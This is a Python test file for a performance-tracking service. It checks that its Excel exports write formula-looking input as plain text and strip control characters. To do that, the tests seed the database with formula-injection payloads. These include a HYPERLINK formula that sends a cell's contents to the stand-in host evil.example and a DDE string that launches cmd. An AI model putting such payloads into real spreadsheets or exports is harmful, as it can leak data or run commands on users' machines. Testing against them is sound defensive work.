"""Text is escaped once on the way out of every workbook: a value that looks like a formula is written
as text, and control characters (Word's soft line break \\x0b and the like) never make an export fail.

The hostile text is written straight into the database, as text that reached it before input was
normalised would be: whatever is stored, every export opens and shows the words as they were written."""

from __future__ import annotations

import io
from datetime import date

import pytest
from sqlalchemy import update
from sqlmodel import select

from service.cli import main
from service.clock import clock
from service.db import session_scope
from service.demo import DEMO_TODAY
from service.domain.vocabulary import Status
from service.evaluation import execute_run, start_run
from service.exports.history import build_history_workbook
from service.exports.monitoring import build_monitoring_workbook
from service.exports.self_evaluation import build_self_evaluation
from service.exports.sheets import Book, Page, clean_text
from service.exports.template import build_flat_template
from service.models import ActualEntry, Indicator, Project
from service.reporting.read import indicator_history
from service.reporting.reports import load_scope
from service.reporting.workbook import build_workbook

from .conftest import login
from .workbooks import open_workbook

PROJECT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x0b第二行\x01'
INDICATOR_NAME = '+cmd|" /c calc"!A0\x0c决策统计分析'
PROGRESS = "=1+1\x0b已完成年度工作\x1f"
CAUSE = "@SUM(A1:A9)\x0b资金拨付晚于计划\x08"
MEASURE = "-2+3\x0c四季度集中推进"
QUALITATIVE = "2025-001.05"  # 决策统计分析: its actual is the progress text as written


def _cleaned(text: str) -> str:
    return (
        text.replace("\x0b", "\n").replace("\x0c", "\n").translate({c: None for c in range(32) if c not in (9, 10, 13)})
    )


@pytest.fixture
def seeded_url(demo_url):
    return demo_url  # the app below holds the demo year, copied from its template


@pytest.fixture
def hostile_year(app):
    """The demo year with hostile text in the names and reports people typed."""
    clock.set_today(DEMO_TODAY)
    engine = app.extensions["perftrack.engine"]
    with session_scope(engine) as session:
        session.execute(update(Project).where(Project.code == "2025-001").values(name=PROJECT_NAME))
        indicator = session.exec(select(Indicator).where(Indicator.code == QUALITATIVE)).one()
        session.execute(update(Indicator).where(Indicator.id == indicator.id).values(name=INDICATOR_NAME))
        session.execute(
            update(ActualEntry)
            .where(ActualEntry.indicator_id == indicator.id)
            .values(progress=PROGRESS, cause_text=CAUSE, measure_text=MEASURE, cause_category="经费保障")
        )
    return engine


def _texts(data) -> dict[str, list]:
    """Every cell of every sheet: no formula anywhere, no character a workbook cannot hold."""
    workbook = open_workbook(io.BytesIO(data if isinstance(data, bytes) else data.getvalue()))
    cells = {}
    for sheet in workbook.worksheets:
        cells[sheet.title] = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert clean_text(cell.value) == cell.value, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    cells[sheet.title].append(cell.value)
    return cells


def _holds(cells: list, *expected: str) -> None:
    for text in expected:
        assert any(text in value for value in cells), f"{text!r} not in {cells[:20]}"


@pytest.mark.slow
def test_formula_looking_and_control_character_text_through_every_export(hostile_year, app, runner, tmp_path):
    name, indicator_name = _cleaned(PROJECT_NAME), _cleaned(INDICATOR_NAME)
    progress, cause, measure = _cleaned(PROGRESS), _cleaned(CAUSE), _cleaned(MEASURE)
    assert name == '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\n第二行'

    with session_scope(hostile_year) as session:
        period_workbook = build_workbook(session, load_scope(session, 2025, "XXH", 2))
        indicator = session.exec(select(Indicator).where(Indicator.code == QUALITATIVE)).one()
        history = build_history_workbook(indicator, indicator_history(session, indicator))
        monitoring = build_monitoring_workbook(session, 2025, date(2025, 7, 31))
        self_evaluation = build_self_evaluation(session, 2025, project="2025-001")

    cells = _texts(period_workbook)  # the division's period workbook
    assert name in cells["指标"] and indicator_name in cells["指标"] and progress in cells["指标"]
    assert cause in cells["指标"] and measure in cells["指标"] and name in cells["资金"]

    cells = _texts(history)["填报历史"]  # the value history: the progress text leads the value described
    _holds(cells, indicator_name)
    assert any(value.startswith(progress) for value in cells)

    cells = _texts(monitoring)  # the monitoring table
    assert {name, indicator_name, progress, cause, measure} <= set(cells["指标"]) and name in cells["项目状态"]
    assert indicator_name in cells["执行监控表"] and any(c.startswith(name) for c in cells["执行监控表"])

    cells = _texts(self_evaluation)  # summary, findings sheet and the 自评表 form
    assert name in cells["汇总"] and name in cells["2025-001"]
    assert indicator_name in cells["2025-001"] and progress in cells["2025-001"]
    _holds(cells["待核查"], f"「{indicator_name}」")

    workbook = open_workbook(self_evaluation.getvalue())
    cell = next(c for row in workbook["2025-001"].iter_rows() for c in row if c.value == name)
    assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even when the cell is edited

    # Both CLI exports and the run's workbook on the web, which failed for everyone before.
    for command in (
        ["export", "monitoring", "--year", "2025", "--as-of", "2025-07-31"],
        ["export", "self-evaluation", "--year", "2025"],
    ):
        out = tmp_path / f"{command[1]}.xlsx"
        result = runner.invoke(main, [*command, "--out", str(out)])
        assert result.exit_code == 0, result.output
        _texts(out.read_bytes())
    with session_scope(hostile_year) as session:
        run = start_run(session, 2025, "caiwu")
        execute_run(session, run)
        run_id = run.id
    response = login(app, "caiwu").get(f"/self-evaluation/runs/{run_id}/workbook.xlsx")
    assert response.status_code == 200
    assert name in _texts(response.data)["汇总"]
    response = login(app, "xxh").get(f"/indicators/{QUALITATIVE}/history.xlsx")
    assert response.status_code == 200 and _texts(response.data)


def test_the_blank_template_holds_text_only(engine):
    cells = _texts(build_flat_template())
    assert cells["绩效指标"][:2] == ["项目编号", "项目名称"] and "≥5项" in cells["绩效指标"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", '=HYPERLINK("x")', "-"])
def test_a_cell_that_looks_like_a_formula_is_text(text):
    book = Book()
    sheet = book.sheet("s", [10], Page())
    sheet.write(0, 0, text)
    sheet.write(1, 0, -1)  # numbers stay numbers
    workbook = open_workbook(book.save())
    cell, number = workbook.active["A1"], workbook.active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (number.value, number.data_type) == (-1, "n")


def test_control_characters_become_line_breaks_or_go():
    assert clean_text("a\x0bb\x0cc") == "a\nb\nc"
    assert clean_text("a\x00b\x01\x08\x1f\ud800\ufffe c\td\r\ne") == "ab c\td\r\ne"
    assert len(clean_text("长" * 40000)) == 32767


def test_the_same_text_in_many_cells_is_cleaned_in_each():
    """Cleaning is cached per text; every cell holding the text gets the cleaned text, and a text subclass
    (a status label) reads as its plain text."""
    book = Book()
    sheet = book.sheet("s", [10], Page())
    hostile = "原因\x0b说明\x00"
    for row in range(3):
        sheet.write(row, 0, hostile)
    sheet.write(3, 0, Status.LAGGING)
    sheet.write(4, 0, "=" + hostile)
    cells = open_workbook(book.save()).active
    assert [cells.cell(row, 1).value for row in range(1, 6)] == ["原因\n说明"] * 3 + [
        str(Status.LAGGING),
        "=原因\n说明",
    ]
    assert cells["A5"].quotePrefix and not cells["A1"].quotePrefix
